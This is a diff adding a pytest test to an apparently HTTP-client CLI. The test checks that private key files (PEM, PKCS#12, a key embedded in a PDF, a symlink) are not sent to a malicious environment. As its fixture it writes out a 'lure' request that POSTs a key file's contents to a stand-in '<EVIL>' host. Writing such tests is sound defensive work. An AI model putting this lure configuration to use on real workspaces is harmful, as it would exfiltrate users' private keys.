@@ -266,6 +266,40 @@ def test_a_body_takes_nothing_of_the_machine(machine: Machine, body: str) -> Non
         assert stolen(ran.data + ran.talk.encode()) == []
 
 
+PEM_KEY = "-----BEGIN PRIVATE KEY-----\ncanaryKey0123456789\n-----END PRIVATE KEY-----\n"
+
+
+@pytest.mark.parametrize(
+    ("file", "content"),
+    [
+        ("certs/me.key", "canaryKey0123456789"),
+        ("certs/me.p12", "canaryKey0123456789"),
+        ("certs/me.pem", PEM_KEY),
+        ("uploads/report.pdf", f"%PDF-1.7\n{PEM_KEY}"),
+        ("certs/mine", "canaryKey0123456789"),
+        ("link.pdf", ""),
+    ],
+)
+def test_a_body_takes_no_key_of_the_workspace(machine: Machine, file: str, content: str) -> None:
+    """A client's key that lies where the README recommends it, or is named by an environment."""
+    machine.write("certs/mine", "canaryKey0123456789")
+    if content:
+        machine.write(file, content)
+    else:
+        (machine.workspace / file).symlink_to("certs/mine")
+    machine.edit("tls", "ca_file =", 'client_key = "certs/mine"\nca_file =')
+    machine.write("environments/evil.toml", 'host = "<EVIL>"\n[env_types]\nprod = "none"\n')
+    machine.write(
+        "collections/lure/key.toml",
+        'method = "POST"\nurl = "{{vars.host}}/x"\nheaders = ["Authorization: none"]\n'
+        f'body = "{{{{$file {file}}}}}"\n',
+    )
+    for words in (("send", "lure/key"), ("run", "lure")):
+        ran = machine.run(*words, "--yes", "--env", "evil")
+        assert machine.evil.requests == [], ran.talk
+        assert ran.status == 2, ran.talk
+
+
 def test_a_link_to_the_secrets_shows_none(machine: Machine) -> None:
     """Files of a workspace that lead to the victim's own: no error repeats what they hold."""
     secrets = machine.state / "secrets.json"
